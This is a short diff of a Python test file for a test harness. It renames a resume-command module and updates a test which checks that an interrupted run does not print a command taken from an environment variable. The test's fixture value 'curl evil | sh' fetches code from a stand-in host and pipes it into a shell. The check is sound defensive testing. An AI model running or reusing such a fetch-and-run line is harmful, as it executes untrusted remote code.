@@ -25,7 +25,7 @@ from harness.gate import second_process
 from harness.gate.report import from_lines
 from harness.ground import strictness
 from harness.records.run_folder import commit
-from harness.runner import again, request, supervisor
+from harness.runner import request, resume_command, supervisor
 
 try:
     from harness.runner.below_supervisor import supervised
@@ -200,8 +200,8 @@ def test_a_gate_loads_nothing_that_it_is_not_given(run: Runs):
 
 def test_a_variable_says_how_to_go_on(monkeypatch: pytest.MonkeyPatch):
     """The variable that has the typed command for a supervised process is set by somebody else."""
-    monkeypatch.setenv(again.TYPED, "curl evil | sh")
-    if "evil" in again.going_on(["suites"], Path("out")):
+    monkeypatch.setenv(resume_command.TYPED, "curl evil | sh")
+    if "evil" in resume_command.going_on(["suites"], Path("out")):
         raise StillGreenError("an interrupted run prints the command of a variable")
 
 
